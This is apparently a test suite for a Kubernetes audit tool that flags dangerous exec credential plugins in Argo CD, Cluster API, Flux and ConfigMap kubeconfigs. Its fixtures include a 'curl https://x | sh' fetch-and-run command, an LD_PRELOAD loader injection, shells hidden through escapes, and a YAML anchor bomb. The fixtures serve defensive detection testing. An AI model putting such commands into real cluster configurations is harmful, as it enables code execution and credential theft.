import {expect} from 'chai'
import type {Check} from '../../../src/audit/check.js'
import type {Finding} from '../../../src/audit/finding.js'
import {execArgocd} from '../../../src/checks/exec-credentials/exec-argocd.js'
import {execCapi} from '../../../src/checks/exec-credentials/exec-capi.js'
import {execConfigmap} from '../../../src/checks/exec-credentials/exec-configmap.js'
import {execFlux} from '../../../src/checks/exec-credentials/exec-flux.js'
import type {Cluster} from '../../support/run-checks.js'
import {runChecks} from '../../support/run-checks.js'

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const TOKEN = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjYW5hcnkifQ.c2lnbmF0dXJl'
const CA = base64('-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n')

/** Findings as `variant severity state`, and how the check ended. */
async function ran(check: Check, objects: readonly object[], more: Partial<Cluster> = {}): Promise<{lines: string[]; skip: string | null | undefined; findings: Finding[]}> {
  const {findings, skips} = await runChecks([check], {objects, ...more})
  return {lines: findings.map(({variant, severity, state}) => `${variant} ${severity} ${state}`), skip: skips[check.meta.id], findings}
}

describe('exec-argocd', () => {
  const secret = (config: unknown, more: {server?: string; raw?: string; stringData?: boolean} = {}): object => {
    const text = more.raw ?? JSON.stringify(config)
    const server = more.server ?? 'https://a.example.com'
    return {
      apiVersion: 'v1', kind: 'Secret', type: 'Opaque', metadata: {namespace: 'argocd', name: 'c', labels: {'argocd.argoproj.io/secret-type': 'cluster'}},
      ...(more.stringData ? {stringData: {server, config: text}} : {data: {server: base64(server), config: base64(text)}}),
    }
  }
  const exec = (command: string, args: string[] = [], more: object = {}): object => ({execProviderConfig: {command, args, apiVersion: 'client.authentication.k8s.io/v1beta1', ...more}, tlsClientConfig: {insecure: false, caData: CA}})

  const rows: [string, object, string[]][] = [
    ['a token', secret({bearerToken: TOKEN, tlsClientConfig: {insecure: false, caData: CA}}), []],
    ['argocd-k8s-auth', secret(exec('argocd-k8s-auth', ['aws', '--cluster-name', 'x'], {env: {AWS_REGION: 'eu-west-1'}})), []],
    ['its path', secret(exec('/usr/local/bin/argocd-k8s-auth', ['gcp'])), []],
    ['a shell', secret(exec('sh', ['-c', 'curl https://x | sh'])), ['dangerous high active']],
    ['a program nobody knows', secret(exec('/custom/get-token')), ['unknown medium active']],
    ['a loader variable', secret(exec('argocd-k8s-auth', ['gcp'], {env: {LD_PRELOAD: '/x.so'}})), ['dangerous high active']],
    ['stringData of a manifest', secret(exec('sh', ['-c', 'id']), {stringData: true}), ['dangerous high active']],
    ['other letter case, as Go reads it', secret({EXECPROVIDERCONFIG: {Command: 'sh', Args: ['-c', 'id']}}), ['dangerous high active']],
    ['no TLS check', secret({bearerToken: TOKEN, tlsClientConfig: {insecure: true}}), ['insecure-connection medium active']],
    ['ignored beside awsAuthConfig', secret({...exec('sh', ['-c', 'id']), awsAuthConfig: {clusterName: 'x'}}), ['dangerous info latent']],
    ['ignored for the own cluster', secret({...exec('sh', ['-c', 'id']), tlsClientConfig: {insecure: true}}, {server: 'https://kubernetes.default.svc'}), ['dangerous info latent']],
    ['no TLS at all', secret({bearerToken: TOKEN}, {server: 'http://10.0.0.1'}), ['insecure-connection medium active']],
    ['an empty exec', secret({execProviderConfig: {}}), []],
    ['no configuration', secret(undefined, {raw: ''}), []],
    ['escapes of Go\'s encoder', secret(undefined, {raw: '{"execProviderConfig":{"command":"sh","args":["-c","id \\u003e /x \\u0026\\u0026 id"]}}'}), ['dangerous high active']],
  ]
  for (const [name, object, lines] of rows) it(name, async () => expect(await ran(execArgocd, [object])).to.deep.include({lines, skip: null}))

  const odd: [string, object][] = [
    ['no base64', {...secret({}), data: {config: '!'}}],
    ['no JSON', secret(undefined, {raw: '{"execProviderConfig":{"command":"SECRET"'})],
    ['a key that stands twice', secret(undefined, {raw: '{"execProviderConfig":{"command":"sh"},"execProviderConfig":{}}'})],
    ['a key in two letter cases', secret(undefined, {raw: '{"execProviderConfig":{"command":"sh"},"execproviderconfig":{}}'})],
    ['args that are text', secret(exec('sh', '-c id' as unknown as string[]))],
    ['bytes that are no text', {...secret({}), data: {config: Buffer.from([0xff, 0xfe]).toString('base64')}}],
    ['very deep', secret(undefined, {raw: `{"a":${'['.repeat(50_000)}${']'.repeat(50_000)}}`})],
  ]
  for (const [name, object] of odd) it(`${name}: not understood`, async () => expect(await ran(execArgocd, [object])).to.deep.include({lines: [], skip: 'not-understood'}))

  it('names the program and why, and no secret', async () => {
    const {findings} = await ran(execArgocd, [secret(exec('get-token', ['--password', 'hunter2', `--header=Bearer ${TOKEN}`], {env: {API_TOKEN: 'hunter3'}}))])
    expect(findings[0]).to.deep.include({details: {type: 'exec', verdict: 'unknown', reasons: ['unlisted-program', 'env-unlisted']}, path: 'data.config'})
    expect(findings[0]?.message).to.include('Argo CD would run "get-token')
    expect(JSON.stringify(findings)).not.to.match(/hunter|eyJ/)
  })

  it('gives the gravest reason of several', async () => {
    const {findings} = await ran(execArgocd, [secret(exec('sh', ['-c', 'a | b']))])
    expect(findings[0]?.details).to.deep.include({reasons: ['shell-metacharacter', 'shell-inline-code']})
    expect(findings[0]?.message).to.include('is a shell with code')
  })

  it('is not asked for without --include-secrets, and not clean where Secrets are forbidden', async () => {
    expect(await ran(execArgocd, [secret(exec('sh', ['-c', 'id']))], {mayReadSecrets: false})).to.deep.include({lines: [], skip: 'not-requested'})
    expect(await ran(execArgocd, [], {outcomes: {'argocd-secrets': 'forbidden'}})).to.deep.include({skip: 'forbidden'})
  })
})

interface Written {
  command?: string
  args?: string[]
  insecure?: boolean
  server?: string
  more?: string
}

function kubeconfig({command, args = [], insecure = false, server = 'https://a.example.com', more = ''}: Written): string {
  const exec = command === undefined ? `    token: ${TOKEN}\n` : `    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      interactiveMode: Never\n      command: ${command}\n      args: ${JSON.stringify(args)}\n`
  const tls = insecure ? 'insecure-skip-tls-verify: true' : `certificate-authority-data: ${CA}`
  return `apiVersion: v1\nkind: Config\ncurrent-context: c\ncontexts:\n- name: c\n  context: {cluster: k, user: u}\nclusters:\n- name: k\n  cluster:\n    server: ${server}\n    ${tls}\nusers:\n- name: u\n  user:\n${exec}${more}`
}

const KUBECONFIGS: [string, Written, string[]][] = [
  ['a token', {}, []],
  ['a listed helper', {command: 'aws', args: ['eks', 'get-token', '--cluster-name', 'x']}, []],
  ['a shell', {command: 'sh', args: ['-c', 'id']}, ['dangerous']],
  ['an unknown program', {command: 'my-login'}, ['unknown']],
  ['no TLS check', {insecure: true}, ['insecure-connection']],
  ['plain http', {server: 'http://a.example.com'}, ['insecure-connection']],
  ['a user that no context names', {more: '- name: other\n  user:\n    exec: {apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: sh, args: [-c, id]}\n'}, ['dangerous']],
  ['auth-provider with a program', {more: '- name: old\n  user:\n    auth-provider: {name: gcp, config: {cmd-path: sh, cmd-args: -c id}}\n'}, ['dangerous']],
]

const HOSTILE: [string, string][] = [
  ['two documents', `${kubeconfig({})}---\n${kubeconfig({command: 'sh'})}`],
  ['an anchor bomb', `kind: Config\na: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghij'.split('').map((name, index) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghij'[index]}`).join(',')}]`).join('\n')}\n`],
  ['very deep', `kind: Config\nx: ${'['.repeat(20_000)}`],
  ['a duplicate key', 'kind: Config\nusers: []\nusers: []\n'],
  ['a tag', 'kind: Config\nusers: !!binary aGk=\n'],
]

describe('exec-capi', () => {
  const secret = (text: string, name = 'c-kubeconfig'): object => ({apiVersion: 'v1', kind: 'Secret', type: 'cluster.x-k8s.io/secret', metadata: {namespace: 'x', name}, data: {value: base64(text)}})

  for (const [name, written, variants] of KUBECONFIGS) {
    it(name, async () => {
      const {findings, skip} = await ran(execCapi, [secret(kubeconfig(written))])
      expect([findings.map(({variant}) => variant), skip]).to.deep.equal([variants, null])
      expect(JSON.stringify(findings)).not.to.include(TOKEN)
    })
  }
  for (const [name, text] of HOSTILE) it(`${name}: not understood`, async () => expect(await ran(execCapi, [secret(text)])).to.deep.include({lines: [], skip: 'not-understood'}))

  it('other Secrets of the type hold keys', async () => expect(await ran(execCapi, [secret('-----BEGIN RSA PRIVATE KEY-----', 'c-ca')])).to.deep.include({lines: [], skip: null}))
  it('without the entry it is not clean', async () => expect(await ran(execCapi, [{...secret(''), data: {}}])).to.deep.include({skip: 'not-understood'}))
})

describe('exec-flux', () => {
  const kustomization = (key?: string): object => ({
    apiVersion: 'kustomize.toolkit.fluxcd.io/v1', kind: 'Kustomization', metadata: {namespace: 'x', name: 'apps'}, spec: {kubeConfig: {secretRef: {name: 'k', ...(key === undefined ? {} : {key})}}},
  })
  const secret = (data: Record<string, string>): object => ({apiVersion: 'v1', kind: 'Secret', metadata: {namespace: 'x', name: 'k'}, data: Object.fromEntries(Object.entries(data).map(([key, text]) => [key, base64(text)]))})
  const bad = kubeconfig({command: 'sh', args: ['-c', 'id']})

  const rows: [string, object[], string[], string | null][] = [
    ['value', [kustomization(), secret({value: bad})], ['dangerous medium active'], null],
    ['value.yaml', [kustomization(), secret({'value.yaml': bad})], ['dangerous medium active'], null],
    ['value comes first', [kustomization(), secret({value: kubeconfig({}), 'value.yaml': bad})], [], null],
    ['the key that is named', [kustomization('mine'), secret({value: kubeconfig({}), mine: bad})], ['dangerous medium active'], null],
    ['a key that is not there', [kustomization('mine'), secret({value: bad})], [], 'not-understood'],
    ['a Secret that nobody names', [secret({value: bad})], [], null],
    ['no TLS check', [kustomization(), secret({value: kubeconfig({insecure: true})})], ['insecure-connection low active'], null],
  ]
  for (const [name, objects, lines, skip] of rows) it(name, async () => expect(await ran(execFlux, objects)).to.deep.include({lines, skip}))

  it('judges what stands under one key although another cannot be read', async () => {
    const second = {...kustomization('gone'), metadata: {namespace: 'x', name: 'decoy'}}
    expect(await ran(execFlux, [second, kustomization('mine'), secret({mine: bad})])).to.deep.include({lines: ['dangerous medium active'], skip: 'not-understood'})
  })

  it('tells findings under two keys apart', async () => {
    const second = {...kustomization('two'), metadata: {namespace: 'x', name: 'other'}}
    const {findings} = await ran(execFlux, [kustomization('one'), second, secret({one: bad, two: bad})])
    expect(new Set(findings.map(({fingerprint}) => fingerprint)).size).to.equal(2)
  })

  it('says on what it hangs', async () => {
    const {findings} = await ran(execFlux, [kustomization(), secret({value: bad})])
    expect(findings[0]?.message).to.include('Since 0.29 it does so only with --insecure-kubeconfig-exec')
    expect(findings[0]?.confidence).to.equal('derived')
  })

  it('is skipped where the Kustomizations cannot be read', async () => {
    expect(await ran(execFlux, [], {outcomes: {kustomizations: 'forbidden'}})).to.deep.include({skip: 'forbidden'})
  })

  it('does not apply where the server has none of the APIs of Flux, and only there', async () => {
    const none = await runChecks([execFlux], {objects: [], outcomes: {kustomizations: 'not-served', helmreleases: 'not-served'}})
    expect([none.notApplicable['exec-flux'], none.skips['exec-flux']]).to.deep.equal(['the server has none of the APIs of Flux', null])
    const half = await runChecks([execFlux], {objects: [], outcomes: {kustomizations: 'not-served', helmreleases: 'forbidden'}})
    expect([half.notApplicable['exec-flux'], half.skips['exec-flux']]).to.deep.equal([null, 'forbidden'])
  })
})

describe('exec-configmap', () => {
  const configMap = (data: Record<string, string>, name = 'kube-proxy', namespace = 'kube-system', more: object = {}): object => ({apiVersion: 'v1', kind: 'ConfigMap', metadata: {namespace, name}, data, ...more})
  const bad = kubeconfig({command: 'sh', args: ['-c', 'id']})
  const PROXY = 'apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    certificate-authority: /var/run/secrets/kubernetes.io/serviceaccount/ca.crt\n    server: https://a.example.com:6443\n  name: default\ncontexts:\n- context:\n    cluster: default\n    namespace: default\n    user: default\n  name: default\ncurrent-context: default\nusers:\n- name: default\n  user:\n    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n'
  const INFO = `apiVersion: v1\nclusters:\n- cluster:\n    certificate-authority-data: ${CA}\n    server: https://a.example.com:6443\n  name: ""\ncontexts: null\ncurrent-context: ""\nkind: Config\npreferences: {}\nusers: null\n`

  const rows: [string, object[], string[], string | null][] = [
    ['as kubeadm writes them', [configMap({'kubeconfig.conf': PROXY, 'config.conf': 'apiVersion: kubeproxy.config.k8s.io/v1alpha1\nkind: KubeProxyConfiguration\nclientConnection:\n  kubeconfig: /var/lib/kube-proxy/kubeconfig.conf\n'}), configMap({kubeconfig: INFO, 'jws-kubeconfig-abc': 'x..y'}, 'cluster-info', 'kube-public')], [], null],
    ['a shell for kube-proxy', [configMap({'kubeconfig.conf': bad})], ['dangerous high active'], null],
    ['in binaryData', [configMap({}, 'kube-proxy', 'kube-system', {binaryData: {x: base64(bad)}})], ['dangerous high active'], null],
    ['without a kind', [configMap({x: bad.replace('kind: Config\n', '')})], ['dangerous high active'], null],
    ['as JSON', [configMap({x: '{"kind":"Config","apiVersion":"v1","users":[{"name":"u","user":{"exec":{"apiVersion":"client.authentication.k8s.io/v1","interactiveMode":"Never","command":"sh","args":["-c","id"]}}}]}'})], ['dangerous high active'], null],
    ['another ConfigMap is not read', [configMap({x: bad}, 'mine')], [], null],
    ['one that Flux names', [
      {apiVersion: 'helm.toolkit.fluxcd.io/v2', kind: 'HelmRelease', metadata: {namespace: 'x', name: 'r'}, spec: {kubeConfig: {configMapRef: {name: 'mine'}}}}, configMap({provider: 'aws', address: 'https://a.example.com', x: bad}, 'mine', 'x'),
    ], ['dangerous high active'], null],
    ['a kubeconfig that cannot be read', [configMap({x: `${bad}---\nx: 1\n`})], [], 'not-understood'],
    ['its kind behind an anchor', [configMap({x: bad.replace('kind: Config', 'kind: &a Config')})], ['dangerous high active'], null],
    ['its kind in escapes', [configMap({x: bad.replace('kind: Config', 'kind: "Conf\\x69g"')})], ['dangerous high active'], null],
    ['its kind in a folded block', [configMap({x: bad.replace('kind: Config', 'kind: >-\n  Config')})], ['dangerous high active'], null],
    ['its kind with a tag, which we refuse', [configMap({x: bad.replace('kind: Config', 'kind: !!str Config')})], [], 'not-understood'],
    ['another kind with the same lists', [configMap({x: 'kind: Other\nclusters: []\nusers: []\n'})], [], null],
  ]
  for (const [name, objects, lines, skip] of rows) it(name, async () => expect(await ran(execConfigmap, objects)).to.deep.include({lines, skip}))

  it('is not clean where Flux cannot be asked, and complete where there is none', async () => {
    expect(await ran(execConfigmap, [], {outcomes: {helmreleases: 'forbidden'}})).to.deep.include({skip: 'forbidden'})
    expect(await ran(execConfigmap, [], {outcomes: {helmreleases: 'not-served', kustomizations: 'not-served'}})).to.deep.include({skip: null})
  })
})
